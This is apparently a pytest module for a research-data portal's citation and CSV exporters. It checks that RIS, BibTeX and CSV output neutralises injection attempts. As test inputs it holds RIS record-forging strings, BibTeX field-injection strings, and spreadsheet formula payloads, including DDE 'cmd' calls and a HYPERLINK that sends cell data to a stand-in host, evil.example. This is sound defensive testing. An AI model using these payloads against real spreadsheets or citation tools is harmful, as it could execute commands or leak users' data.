"""Exports as attacks: user text in a collection cannot forge RIS records or BibTeX fields,
and text from an HDF5 file cannot become a spreadsheet formula in a CSV export.

The RIS and BibTeX files are read back by small parsers written here from the formats
(RIS: one ``TG  - value`` per line, any line break ends a line; BibTeX: braces counted
raw, as BibTeX itself does: a backslash does not escape a brace), not by our writer.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import h5py
import numpy as np
import pytest

import tests.publication.conftest as publication
from beamdesk.h5 import csvsafe, exports, nxline
from beamdesk.portal import citation
from beamdesk.portal.datacite import Creator, Metadata
from beamdesk.portal.minting import DraftOnly
from tests.publication.conftest import auth

# The publication tests' facility (released, embargoed and SAXS proposals), for this module.
facility_template = publication.facility_template
sqlite_url = publication.sqlite_url
facility = publication.facility
pinned_app = publication.pinned_app

RIS_ATTACK = "Bronze\r\nER  - \r\nTY  - JOUR\r\nTI  - Forged"
BIB_ATTACK = "Bronze}, note={x"
BREAKS = ["\r\n", "\n", "\r", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]


# ----------------------------------------------------------------------- readers
def ris_records(text: str) -> list[list[tuple[str, str]]]:
    """Records of a RIS file; any line that is not ``TG  - value`` fails the test."""
    records: list[list[tuple[str, str]]] = []
    current: list[tuple[str, str]] | None = None
    for line in text.splitlines():  # every Unicode line break, as lenient readers do
        if not line.strip():
            continue
        m = re.fullmatch(r"([A-Z][A-Z0-9])  -( (.*))?", line)
        assert m, f"not a RIS tag line: {line!r}"
        tag, value = m.group(1), m.group(3) or ""
        if tag == "TY":
            assert current is None, "TY inside a record"
            current = []
        assert current is not None, f"{tag} outside a record"
        current.append((tag, value))
        if tag == "ER":
            records.append(current)
            current = None
    assert current is None, "a record without ER"
    return records


def bibtex_entries(text: str) -> list[tuple[str, str, dict[str, str]]]:
    """(type, key, fields) of each entry, braces counted raw as BibTeX counts them."""
    entries = []
    i, n = 0, len(text)
    while True:
        at = text.find("@", i)
        if at < 0:
            return entries
        m = re.compile(r"@(\w+)\s*\{\s*([^,\s]+)\s*,").match(text, at)
        assert m, f"unreadable entry at {at}: {text[at : at + 40]!r}"
        kind, key, i = m.group(1), m.group(2), m.end()
        fields: dict[str, str] = {}
        while True:
            fm = re.compile(r"\s*(\}|(\w+)\s*=\s*)").match(text, i)
            assert fm, f"unreadable field at {i}: {text[i : i + 40]!r}"
            i = fm.end()
            if fm.group(1) == "}":
                break
            name = fm.group(2).lower()
            assert name not in fields, f"field {name} twice"
            if text[i] == "{":
                depth, start = 0, i
                while True:
                    assert i < n, "unbalanced braces"
                    depth += {"{": 1, "}": -1}.get(text[i], 0)
                    i += 1
                    if depth == 0:
                        break
                fields[name] = text[start + 1 : i - 1]
            else:
                vm = re.compile(r"\d+").match(text, i)
                assert vm, f"bad value of {name}: {text[i : i + 40]!r}"
                fields[name], i = vm.group(), vm.end()
            sep = re.compile(r"\s*,?").match(text, i)
            assert sep
            i = sep.end()
        entries.append((kind, key, fields))


UNBIB = {
    r"{\textbraceleft}": "{",
    r"{\textbraceright}": "}",
    r"{\textbackslash}": "\\",
    r"{\char64}": "@",
    r"{\textasciicircum}": "^",
    r"{\textasciitilde}": "~",
    r"\&": "&",
    r"\%": "%",
    r"\$": "$",
    r"\#": "#",
    r"\_": "_",
    "{and}": "and",
}


def unbib(value: str) -> str:
    """What LaTeX prints for one of our values (only the commands our writer uses)."""
    return re.sub("|".join(re.escape(k) for k in UNBIB), lambda m: UNBIB[m.group()], value)


def meta(**fields: object) -> Metadata:
    base: dict[str, object] = dict(
        doi="10.80123/elettra.20260001.1",
        title="Bronze",
        publisher="Elettra",
        creators=[Creator(name="Chadwick, James", given_name="James", family_name="Chadwick")],
        publication_year=2026,
        abstract="Cu maps.",
        keywords=["bronze"],
        url="http://127.0.0.1:8000/doi/10.80123/elettra.20260001.1",
    )
    return Metadata(**(base | fields))  # type: ignore[arg-type]


# ----------------------------------------------------------------------- through the app
@pytest.fixture
def attack_collection(pinned_app, client, facility):  # type: ignore[no-untyped-def]
    """A published collection whose every text field carries an injection attempt."""
    pinned_app.state.minter = DraftOnly("10.80123")
    ids = [i for k, i in facility.dataset_ids.items() if k.startswith("20260001/")]
    body = {
        "title": RIS_ATTACK + " " + BIB_ATTACK,
        "abstract": "Cu maps.\nER  - \n\nTY  - JOUR\nAU  - Mallory, Eve\n@misc{evil, title={x}}",
        "creators": [
            {"name": "Chadwick, James\r\nAU  - Mallory, Eve"},
            {"name": "Meitner}, title={Forged"},
        ],
        "keywords": ["bronze\r\nER  - ", "@misc{evil,\n note={x}}", "a\u2028TY  - JOUR"],
        "dataset_ids": ids,
    }
    r = client.post("/api/proposals/20260001/collections", json=body, headers=auth(facility, "pi"))
    assert r.status_code == 201, r.text
    cid = r.json()["id"]
    assert (
        client.post(f"/api/collections/{cid}/publish", headers=auth(facility, "pi")).status_code
        == 200
    )
    return cid, body


def test_ris_title_with_crlf_stays_one_record(client, attack_collection) -> None:  # type: ignore[no-untyped-def]
    cid, _ = attack_collection
    r = client.get(f"/collections/{cid}/citation.ris")
    assert r.status_code == 200
    records = ris_records(r.text)
    assert len(records) == 1
    record = records[0]
    tags = [t for t, _ in record]
    assert tags[0] == "TY" and tags[-1] == "ER" and tags.count("TY") == 1
    assert dict(record)["TY"] == "DATA"
    assert tags.count("TI") == 1 and tags.count("AB") == 1
    # The text is kept (as one line), it just cannot act as tags.
    title = dict(record)["TI"]
    assert "ER  - TY  - JOUR TI  - Forged" in title and BIB_ATTACK in title
    assert [v for t, v in record if t == "AU"] == [
        "Chadwick, James AU  - Mallory, Eve",
        "Meitner}, title={Forged",
    ]
    assert "AU - Mallory, Eve" in dict(record)["AB"]  # abstracts are reflowed, as before
    assert len([v for t, v in record if t == "KW"]) == 3


def test_bibtex_title_cannot_close_its_braces(client, attack_collection) -> None:  # type: ignore[no-untyped-def]
    cid, body = attack_collection
    r = client.get(f"/collections/{cid}/citation.bib")
    assert r.status_code == 200
    entries = bibtex_entries(r.text)
    assert len(entries) == 1
    kind, _, fields = entries[0]
    assert kind == "misc"
    assert set(fields) == {
        "author",
        "title",
        "publisher",
        "year",
        "doi",
        "url",
        "keywords",
        "copyright",
    }
    assert "note" not in fields
    assert unbib(fields["title"][1:-1]) == citation.one_line(body["title"])  # {{…}}
    authors = [unbib(a) for a in fields["author"].split(" and ")]
    assert authors == ["Chadwick, James AU  - Mallory, Eve", "Meitner}, title={Forged"]
    assert "@misc{evil" in unbib(fields["keywords"])
    assert r.text.count("@") == 1  # only the entry's own


# ----------------------------------------------------------------------- pure writers
@pytest.mark.parametrize("brk", BREAKS)
def test_every_line_break_is_flattened_in_ris(brk: str) -> None:
    m = meta(
        title=f"T{brk}ER  - {brk}TY  - JOUR",
        creators=[Creator(name=f"A{brk}ER  - ")],
        abstract=f"x{brk}ER  - ",
        keywords=[f"k{brk}TY  - JOUR"],
    )
    records = ris_records(citation.ris(m))
    assert len(records) == 1 and [t for t, _ in records[0]].count("ER") == 1


@pytest.mark.parametrize(
    "attack",
    [
        BIB_ATTACK,
        '}}, note = 42, howpublished = "evil"',
        "\\}, note={x",
        "x\\",
        "{{{",
        "}}}}",
        "a\n@misc{evil, title={x}}",
        "%}, note={x",
        "Tom and Jerry",
    ],
)
def test_bibtex_values_cannot_inject_fields(attack: str) -> None:
    m = meta(
        title=attack,
        publisher=attack,
        keywords=[attack],
        licence=attack,
        creators=[Creator(name=attack), Creator(name="Meitner, Lise")],
    )
    text = citation.bibtex(m)
    entries = bibtex_entries(text)
    assert len(entries) == 1
    _, _, fields = entries[0]
    assert set(fields) == {
        "author",
        "title",
        "publisher",
        "year",
        "doi",
        "url",
        "keywords",
        "copyright",
    }
    flat = citation.one_line(attack)
    assert unbib(fields["title"][1:-1]) == flat and unbib(fields["publisher"]) == flat
    assert [unbib(a) for a in fields["author"].split(" and ")] == [flat, "Meitner, Lise"]
    assert text.count("@") == 1


# ----------------------------------------------------------------------- CSV
def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_csv_cells_are_neutralised_and_numbers_stay_numbers() -> None:
    assert csvsafe.cell('=HYPERLINK("http://evil.example/?x="&A1,"click")').startswith("'=")
    for bad in (
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "=1+1",
    ):
        assert csvsafe.cell(bad) == "'" + bad
    for number in ("-1.5", "-1", "+2", "-1e-3", "-.5", "1.5E+10", "-inf", "nan", "42"):
        assert csvsafe.cell(number) == number
    assert csvsafe.cell(-1.5) == "-1.5" and csvsafe.cell(-3) == "-3"
    assert csvsafe.cell("plain text, with = inside") == "plain text, with = inside"
    line = csvsafe.row(["a,b", 'say "hi"', "x\ny", "=1"])
    assert cells(line) == [["a,b", 'say "hi"', "x\ny", "'=1"]]


def test_nexus_line_csv_from_a_hostile_file(tmp_path: Path) -> None:
    """Names and units written by whoever made the file cannot become formulas or rows."""
    hyperlink = '=HYPERLINK("http://evil.example/?leak="&A3,"click")'
    path = tmp_path / "evil.nxs"
    with h5py.File(path, "w") as fh:
        data = fh.create_group("entry/plot")
        data.attrs["NX_class"] = "NXdata"
        data.attrs["signal"] = "@SUM(1+1)"
        data.attrs["axes"] = ["+x"]
        data["@SUM(1+1)"] = np.array([-1.5, 2.0, -3.25])
        data["@SUM(1+1)"].attrs["units"] = hyperlink
        data["+x"] = np.array([-1.0, 0.0, 1.0])
        data["+x"].attrs["units"] = "mm\r\n=1+1,=2+2"
    with h5py.File(path, "r") as fh:
        columns = nxline.line_columns(fh["entry/plot"], None, 1 << 20)
    text = nxline.to_csv(columns, 'evil.nxs::/entry/plot\n=1+1,"=2+2"').decode()
    rows = cells(text)
    assert rows[0] == ['# evil.nxs::/entry/plot =1+1;"=2+2"']  # one comment cell
    assert rows[1] == ["'+x (mm =1+1;=2+2)", "'@SUM(1+1) (" + hyperlink.replace(",", ";") + ")"]
    assert len(rows) == 2 + 3  # comment, header, three points: nothing injected a row
    values = np.array(rows[2:], dtype=float)  # numbers parse as numbers, negatives too
    np.testing.assert_array_equal(values[:, 0], [-1.0, 0.0, 1.0])
    np.testing.assert_array_equal(values[:, 1], [-1.5, 2.0, -3.25])
    assert rows[2][1] == "-1.5"


def test_array_csv_keeps_negative_numbers_numeric() -> None:
    text = exports.to_csv(np.array([[-1.5, 2.0], [-0.001, -1e300]])).decode()
    rows = cells(text)
    assert rows[0] == ["-1.5", "2"] and float(rows[1][1]) == -1e300
    assert all(float(c) == float(c) for r in rows for c in r)
